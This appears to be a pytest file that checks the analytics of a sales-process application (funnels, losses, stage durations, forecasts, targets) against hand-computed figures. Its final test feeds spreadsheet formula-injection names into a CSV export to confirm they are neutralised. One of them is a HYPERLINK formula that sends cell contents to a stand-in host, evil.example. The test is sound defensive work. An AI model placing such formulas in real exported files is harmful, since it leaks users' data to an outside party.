"""Every analytics figure against a small data set computed by hand, on SQLite and PostgreSQL.

The data: six sales-process deals of rob and sara created on 5 January 2026 (one from a lead
disqualified, renewed, then qualified), walked through their stages on known days: one won,
two lost (one of them reopened), three open (one migrated to a newer process version); an
OpenFire deal moved past a stage on a free move; targets for January.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any

import pytest

from bpmn_sales.context import Context
from bpmn_sales.domain.analytics import duration
from bpmn_sales.errors import Forbidden, InvalidInput
from bpmn_sales.persistence.models import Deal, StageVisit
from bpmn_sales.services import analytics, deals, leads, processes
from bpmn_sales.services.analytics import tables, targets
from bpmn_sales.services.analytics.scope import Filters
from bpmn_sales.services.deals import records
from bpmn_sales.services.demo import steps as demo_steps
from tests.helpers import BUNDLED, FORMS

DAY = 24
ALL = Filters()


def at(clock: Any, day: int) -> None:
    clock.now = datetime(2026, 1, day, 9, 0, tzinfo=UTC)


@pytest.fixture
def figures(ctx: Context, team: Any, clock: Any) -> dict[str, int]:
    rob, sara, mia = team.rob, team.sara, team.mia
    at(clock, 5)
    d1 = deals.create_deal(ctx, rob, "One", "Acme", "10000").id
    d2 = deals.create_deal(ctx, rob, "Two", "Beta", "5000").id
    d4 = deals.create_deal(ctx, sara, "Four", "Gamma", "20000").id
    d5 = deals.create_deal(ctx, sara, "Five", "Delta", "7000", expected_close_date="2026-02-15").id
    renewed = leads.create_lead(ctx, rob, "Lena", "Epsilon", estimated_value="3000").id
    leads.disqualify_lead(ctx, rob, renewed, "Not now")
    leads.renew_lead(ctx, rob, renewed)
    d7 = leads.qualify_lead(ctx, rob, renewed).deal_id
    dropped = leads.create_lead(ctx, sara, "Tom", "Zeta").id
    leads.disqualify_lead(ctx, sara, dropped, "No budget")
    at(clock, 6)
    demo_steps.initial_visit(ctx, sara, d4, "Retail")
    at(clock, 7)
    demo_steps.initial_visit(ctx, rob, d1, "Retail")
    demo_steps.needs_analysis(ctx, sara, d4, 20000)
    at(clock, 9)
    deals.close_deal(ctx, rob, d2, "lost", "No budget")
    demo_steps.solution_design(ctx, sara, d4)
    demo_steps.do(ctx, mia, d4, "Approve solution", data={"decision": "approve", "comment": "ok"})
    at(clock, 10)
    demo_steps.needs_analysis(ctx, rob, d1, 10000)
    demo_steps.do(ctx, sara, d4, "Send quote")
    demo_steps.do(ctx, sara, d4, "Negotiate terms")
    records.create_order(ctx, sara, d4)
    deals.close_deal(ctx, sara, d4, "won")
    d3 = deals.reopen_deal(ctx, rob, d2).id
    at(clock, 11)
    deals.close_deal(ctx, rob, d1, "lost", "Too expensive")
    # A free move past 'estimation' on the OpenFire pipeline.
    kitchen = deals.create_deal(
        ctx, team.olga, "Kitchen", None, "900", "EUR", process="openfire_pipeline"
    ).id
    deals.move_deal(ctx, team.olga, kitchen, "visite_technique")
    # Deal five migrates to a newer version of the sales process (same stages).
    xml = (BUNDLED / "sales_process.bpmn").read_text().replace("Needs analysis", "Needs analysis ")
    processes.deploy_process(ctx, None, {**FORMS, "sales_process.bpmn": xml.encode()})
    with ctx.uow() as store:
        newest = store.latest_version(
            store.get(Deal, d5, "deal").process_version_id
            and store.process_by_key("sales_process").id
        )  # type: ignore[union-attr]
        assert newest is not None and newest.version == 2
        store.get(Deal, d5, "deal").process_version_id = newest.id
        store.commit()
    targets.set_target(ctx, team.admin, "2026-01", "company", "30000")
    targets.set_target(ctx, team.admin, "2026-01", "user:rob", "12000")
    targets.set_target(ctx, team.admin, "2026-01", "user:sara", "15000")
    targets.set_target(ctx, mia, "2026-01", "team:mia", "27000")
    at(clock, 20)
    return {"d1": d1, "d2": d2, "d3": d3, "d4": d4, "d5": d5, "d7": d7 or 0}


def test_funnel_counts_what_each_deal_entered(
    ctx: Context, team: Any, figures: dict[str, int]
) -> None:
    shown = analytics.funnel(ctx, team.admin, ALL).to_dict()
    assert (shown["deals"], shown["won"], shown["won_value"]) == (6, 1, {"USD": 20000.0})
    steps = {s["key"]: s for s in shown["steps"]}
    assert [s["key"] for s in shown["steps"]] == [
        "initial_visit",
        "needs_analysis",
        "solution_design",
        "quote_and_bid",
    ]
    iv, na, sd, qb = (
        steps[k] for k in ("initial_visit", "needs_analysis", "solution_design", "quote_and_bid")
    )
    # All six entered the first stage: 10000 + 5000 + 5000 (reopened) + 20000 + 7000 + 3000.
    assert (iv["reached"], iv["value"], iv["went_on"], iv["to_next"], iv["overall"]) == (
        6,
        {"USD": 50000.0},
        2,
        33.3,
        100.0,
    )
    assert (na["reached"], na["went_on"], na["to_next"], na["overall"]) == (2, 2, 100.0, 33.3)
    assert (sd["reached"], sd["went_on"], sd["to_next"]) == (2, 1, 50.0)
    assert (qb["reached"], qb["went_on"], qb["to_next"], qb["overall"]) == (1, 1, 100.0, 16.7)
    assert all(s["skipped"] == 0 for s in shown["steps"])
    # Leads: the renewed one counts once, as qualified.
    assert shown["leads"] == {
        "created": 2,
        "qualified": 1,
        "disqualified": 1,
        "open": 0,
        "qualified_rate": 50.0,
    }


def test_a_free_move_past_a_stage_counts_as_skipped(
    ctx: Context, team: Any, figures: dict[str, int]
) -> None:
    shown = analytics.funnel(ctx, team.admin, Filters(process="openfire_pipeline")).to_dict()
    steps = {s["key"]: s for s in shown["steps"]}
    assert (steps["nouveau"]["reached"], steps["nouveau"]["went_on"]) == (1, 1)
    assert (steps["estimation"]["reached"], steps["estimation"]["skipped"]) == (0, 1)
    assert steps["estimation"]["to_next"] is None
    assert (steps["visite_technique"]["reached"], steps["visite_technique"]["overall"]) == (
        1,
        100.0,
    )


def test_losses_by_stage_and_reason_and_the_win_rate(
    ctx: Context, team: Any, figures: dict[str, int]
) -> None:
    shown = analytics.losses(ctx, team.admin, ALL).to_dict()
    assert (shown["won"], shown["lost"], shown["invalid"], shown["win_rate"]) == (1, 2, 0, 33.3)
    assert shown["lost_value"] == {"USD": 15000.0}
    by = {s["key"]: s for s in shown["stages"]}
    assert by["initial_visit"]["lost"] == 1 and by["initial_visit"]["reopened"] == 1
    assert by["initial_visit"]["reasons"] == [
        {"reason": "No budget", "deals": 1, "value": {"USD": 5000.0}}
    ]
    assert by["solution_design"]["reasons"] == [
        {"reason": "Too expensive", "deals": 1, "value": {"USD": 10000.0}}
    ]
    assert by["needs_analysis"]["lost"] == by["quote_and_bid"]["lost"] == 0


def test_time_in_stage_median_and_90th_percentile_and_cycle(
    ctx: Context, team: Any, figures: dict[str, int]
) -> None:
    shown = analytics.time_in_stage(ctx, team.admin, ALL).to_dict()
    assert (shown["won"], shown["avg_cycle_days"]) == (1, 5.0)
    by = {s["key"]: s for s in shown["stages"]}
    # initial visit: 24 h (four), 48 h (one), 96 h (two, lost there).
    assert (
        by["initial_visit"]["stays"],
        by["initial_visit"]["median_days"],
        by["initial_visit"]["p90_days"],
    ) == (3, 2.0, 4.0)
    assert (by["needs_analysis"]["median_days"], by["needs_analysis"]["p90_days"]) == (1.0, 3.0)
    assert (by["solution_design"]["median_days"], by["solution_design"]["p90_days"]) == (1.0, 2.0)
    assert (by["quote_and_bid"]["stays"], by["quote_and_bid"]["median_days"]) == (1, 1.0)
    # Open deals three, five, seven have sat in initial visit since the 5th/10th (now: 20th).
    rule = by["initial_visit"]["reminder_after"]
    period = duration(rule)
    if period is not None:
        expected = sum(
            1
            for day in (10, 5, 5)
            if datetime(2026, 1, 20, 9, tzinfo=UTC) - datetime(2026, 1, day, 9, tzinfo=UTC) > period
        )
        assert by["initial_visit"]["stuck"] == expected


def test_stuck_deals_query_uses_the_stage_entry_time(
    ctx: Context, team: Any, figures: dict[str, int]
) -> None:
    """A reminder period constructed here (the diagram's may change): 12 days, on the 20th."""
    from bpmn_sales.persistence.queries.analytics import Slice

    with ctx.uow() as store:
        process = store.process_by_key("sales_process")
        assert process is not None
        part = Slice(store.version_ids(process.id), None)
        count, rows = store.stuck_deals(
            part, "initial_visit", datetime(2026, 1, 8, 9, tzinfo=UTC), 10
        )
        # Entered on the 5th: five and seven; three (reopened on the 10th) is not stuck yet.
        assert duration("P12D") == datetime(2026, 1, 20, tzinfo=UTC) - datetime(
            2026, 1, 8, tzinfo=UTC
        )
        assert count == 2
        assert sorted(d.id for d in rows) == sorted([figures["d5"], figures["d7"]])


def test_filters_owner_period_team_and_who_may_see(
    ctx: Context, team: Any, figures: dict[str, int]
) -> None:
    assert analytics.funnel(ctx, team.admin, Filters(owner="rob")).deals == 4
    assert analytics.funnel(ctx, team.mia, Filters(team="mia")).deals == 6
    assert analytics.funnel(ctx, team.admin, Filters(start="2026-02-01")).deals == 0
    closed_jan_11 = analytics.losses(ctx, team.admin, Filters(start="2026-01-11", end="2026-01-11"))
    assert (closed_jan_11.lost, closed_jan_11.won) == (1, 0)
    with pytest.raises(Forbidden):
        analytics.funnel(ctx, team.rob, ALL)
    with pytest.raises(InvalidInput) as refused:
        analytics.funnel(ctx, team.mia, Filters(owner="olga"))
    assert refused.value.field == "owner"
    with pytest.raises(InvalidInput) as refused:
        analytics.funnel(ctx, team.admin, Filters(end="2026-02-30"))
    assert refused.value.field == "end"


def test_forecast_weights_open_deals_by_close_month_against_targets(
    ctx: Context, team: Any, figures: dict[str, int]
) -> None:
    shown = analytics.forecast(
        ctx, team.admin, Filters(start="2026-01-01", end="2026-03-31")
    ).to_dict()
    assert shown["target_scope"] == "company"
    months = {m["period"]: m for m in shown["months"]}
    assert list(months) == ["2026-01", "2026-02", "2026-03"]
    # The migrated deal five: 7000 at 10 % in February.
    assert (months["2026-02"]["deals"], months["2026-02"]["weighted"]) == (1, 700.0)
    assert (months["2026-01"]["won"], months["2026-01"]["target"], months["2026-01"]["gap"]) == (
        20000.0,
        30000.0,
        10000.0,
    )
    assert shown["quarters"][0]["period"] == "2026-Q1"
    assert shown["quarters"][0]["projected"] == 20700.0
    no_date = {o["period"]: o for o in shown["outside"]}["no date"]
    assert no_date["deals"] == 2  # three (reopened) and seven (from the lead)
    rob = analytics.forecast(
        ctx, team.mia, Filters(owner="rob", start="2026-01-01", end="2026-01-31")
    ).to_dict()
    assert rob["target_scope"] == "user:rob" and rob["months"][0]["target"] == 12000.0


def test_targets_decompose_and_flag_gaps(ctx: Context, team: Any, figures: dict[str, int]) -> None:
    shown = targets.decomposition(ctx, team.admin, "2026-01").to_dict()
    assert shown["company"] == 30000.0 and shown["people"] == 27000.0
    checks = {c["check"]: c for c in shown["checks"]}
    assert checks["company = sum of people"] == {
        "check": "company = sum of people",
        "sum": 27000.0,
        "gap": 3000.0,
        "flagged": True,
    }
    mia = next(t for t in shown["teams"] if t["name"] == "mia")
    assert (mia["target"], mia["people"], mia["flagged"]) == (27000.0, 27000.0, False)
    # mia, a manager, sees her team and its people: no company or department figures.
    scoped = targets.decomposition(ctx, team.mia, "2026-01").to_dict()
    assert (scoped["company"], scoped["departments"], scoped["checks"]) == (None, [], [])
    assert [t["name"] for t in scoped["teams"]] == ["mia"]
    assert {m["username"] for m in scoped["teams"][0]["members"]} == {"mia", "rob", "sara"}
    assert scoped["people"] == 27000.0
    with pytest.raises(Forbidden):
        targets.set_target(ctx, team.mia, "2026-01", "company", "1")
    with pytest.raises(InvalidInput) as refused:
        targets.set_target(ctx, team.admin, "2026-13", "company", "1")
    assert refused.value.field == "period"


def test_stage_visits_replayed_from_history_match_the_live_projection(
    ctx: Context, team: Any, figures: dict[str, int]
) -> None:
    """The 0006 backfill rebuilds the same stays from the recorded history."""
    from alembic import command

    from bpmn_sales.persistence.db import alembic_config

    def stays() -> list[tuple[int, str, int | None]]:
        with ctx.uow() as store:
            rows = store.session.query(StageVisit).order_by(StageVisit.id).all()
            return sorted((v.deal_id, v.stage_key, v.hours) for v in rows)

    live = stays()
    assert len(live) == 14  # 3 + 1 + 1 + 5 (won: into post-sale) + 1 + 1 + 2 (free move)
    command.downgrade(alembic_config(ctx.db), "0005")
    command.upgrade(alembic_config(ctx.db), "head")
    assert stays() == live
    assert analytics.funnel(ctx, team.admin, ALL).deals == 6


def test_text_that_a_spreadsheet_would_run_is_exported_as_text(
    ctx: Context, team: Any, clock: Any
) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    names = (hostile, "+1+1", "-2+3", "@SUM(A1)", "Plain")  # (names are stripped of tabs)
    at(clock, 1)
    for name in names:
        deals.create_deal(ctx, team.rob, name, None, "100")
    at(clock, 28)  # past the initial visit's reminder: all five are stuck
    exported = tables.table(ctx, team.admin, "stuck", ALL).csv()
    rows = list(csv.reader(io.StringIO(exported)))
    assert sorted(row[2] for row in rows[1:]) == sorted(
        ["'" + hostile, "'+1+1", "'-2+3", "'@SUM(A1)", "Plain"]
    )
    # numbers stay numbers, and the JSON answer keeps each name as typed
    assert all(row[1].isdigit() and row[4].isdigit() for row in rows[1:])
    shown = tables.table(ctx, team.admin, "stuck", ALL).to_dict()
    assert {row[2] for row in shown["rows"]} == set(names)
